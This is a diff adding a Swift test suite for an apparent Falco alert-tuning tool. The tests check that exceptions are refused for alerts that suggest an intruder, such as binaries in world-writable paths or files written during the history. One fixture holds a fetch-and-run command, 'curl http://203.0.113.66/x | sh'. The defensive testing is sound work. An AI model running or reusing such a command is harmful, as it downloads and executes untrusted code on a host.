@@ -1,0 +1,119 @@
+import FalcoAlerts
+import Testing
+
+@testable import Analysis
+
+/// An intruder who repeats what he does, so that it looks like a routine.
+@Suite struct RepeatedAttackTests {
+    private static let beat = NoiseStream.every(50, 20)
+
+    private func report(
+        rule: String = NoiseStream.rule, priority: Priority = .warning, _ change: [String: String?],
+        also: (inout NoiseStream) -> Void = { _ in }
+    ) throws -> TuningReport {
+        var stream = NoiseStream()
+        stream.add(at: Self.beat, rule: rule, priority: priority, change)
+        stream.add(at: [0, 1000], rule: "Site rule: other", ["proc.cmdline": "other"])
+        also(&stream)
+        return try stream.report()
+    }
+
+    @Test func aToolWhereAnyoneMayPutOneIsNotExcepted() throws {
+        for path in ["/tmp/x", "/var/tmp/x", "/dev/shm/x", "/run/user/1000/x", "memfd:x"] {
+            let report = try report(["proc.exepath": path, "proc.name": "x", "proc.cmdline": "x"])
+            #expect(report.proposals.isEmpty, "\(path)")
+        }
+    }
+
+    @Test func aProgramThatWasWrittenMeanwhileIsNotExcepted() throws {
+        let report = try report([
+            "proc.exepath": "/usr/sbin/sysupd", "proc.name": "sysupd", "proc.cmdline": "sysupd",
+        ]) { stream in
+            stream.add(
+                at: [1], rule: "Write below binary dir", priority: .error,
+                [
+                    "fd.name": "/usr/sbin/sysupd", "proc.exepath": "/usr/bin/cp",
+                    "proc.cmdline": "cp x /usr/sbin/sysupd",
+                    "evt.arg.flags": "O_WRONLY|O_CREAT",
+                ])
+        }
+        #expect(report.proposals.isEmpty)
+        #expect(report.objections.contains("was itself written during this history"), "\(report.objections)")
+    }
+
+    @Test func aScriptThatWasWrittenMeanwhileIsNotExcepted() throws {
+        let report = try report(["proc.cmdline": "checkd /etc/checkd/job.sh"]) { stream in
+            stream.add(
+                at: [1], rule: "Write below etc", priority: .error,
+                [
+                    "fd.name": "/etc/checkd/job.sh", "proc.exepath": "/usr/bin/tee", "proc.tty": "34817",
+                    "evt.arg.flags": "O_WRONLY|O_CREAT",
+                ])
+        }
+        #expect(report.proposals.isEmpty)
+    }
+
+    @Test func aShellOnAHostIsNothingToStandOn() throws {
+        let report = try report(
+            rule: "Site rule: spawned",
+            [
+                "proc.exepath": "/usr/bin/bash", "proc.name": "bash", "fd.name": nil,
+                "proc.cmdline": "bash -c curl http://203.0.113.66/x | sh", "evt.type": "execve",
+                "evt.arg.flags": nil,
+            ])
+        #expect(report.proposals.isEmpty)
+    }
+
+    /// What an exception for the routine would hide with it keeps it away, or narrows it.
+    @Test func anAttackWithinTheRoutineNarrowsIt() throws {
+        var stream = NoiseStream()
+        stream.add(at: Self.beat)
+        stream.add(at: [0, 1000], rule: "Site rule: other", ["proc.cmdline": "other"])
+        // The same program, command and parent, on other files, as another user.
+        stream.add(at: [333], ["user.uid": "33", "user.name": "www-data", "proc.aname[2]": "sshd"])
+        var survey = try stream.survey { alert in alert["user.uid"] == "33" ? 7 : 0 }
+        let incident = TuningReport.Incident(id: "x", title: "an intruder", needsAttention: true, alerts: 1)
+        var report = survey.study(incidents: IncidentMap([7: incident])).report()
+        #expect(report.proposals.count == 1)
+        #expect(report.first?.replay.saved == 20)
+        #expect(report.first?.replay.incidents.isEmpty == true)
+        // An incident that needs no attention does not stand in the way, and is named.
+        var calm = incident
+        calm.needsAttention = false
+        report = survey.study(incidents: IncidentMap([7: calm])).report()
+        #expect(report.proposals.count == 1)
+
+        // Now nothing that tells tells them apart: they share all that lasts.
+        stream = NoiseStream()
+        stream.add(at: Self.beat)
+        stream.add(at: [0, 1000], rule: "Site rule: other", ["proc.cmdline": "other"])
+        var count = 0
+        survey = try stream.survey { _ in
+            count += 1
+            return count == 9 ? 7 : 0
+        }
+        report = survey.study(incidents: IncidentMap([7: incident])).report()
+        #expect(report.proposals.isEmpty)
+        #expect(
+            report.objections.contains("incident that needs attention (an intruder)"), "\(report.objections)")
+        #expect(
+            survey.study(incidents: IncidentMap([7: calm])).report().first?.replay.incidents == [
+                TuningReport.Incident(id: "x", title: "an intruder", needsAttention: false, alerts: 1)
+            ])
+    }
+
+    @Test func whatLooksLikeAnAttackIsNarrowedAway() throws {
+        var stream = NoiseStream()
+        stream.add(at: Self.beat, ["proc.cwd": "/var/lib/checkd/"])
+        // A field that reports do not stand on is all that differs; the alert speaks for an attack.
+        stream.add(at: [500], ["proc.cwd": "/tmp/.x/", "user.name": "www-data", "user.uid": "33"])
+        stream.add(at: [0, 1000], rule: "Site rule: other", ["proc.cmdline": "other"])
+        let survey = try stream.survey { alert in alert["user.uid"] == "33" ? 1 : 0 }
+        let incident = TuningReport.Incident(id: "x", title: "t", needsAttention: true, alerts: 1)
+        let report = survey.study(incidents: IncidentMap([1: incident])).report()
+        let proposal = try #require(report.proposals.first, "\(report.objections)")
+        #expect(!proposal.narrowedBy.isEmpty)
+        #expect(proposal.replay.saved == 20)
+        #expect(report.faults == [])
+    }
+}
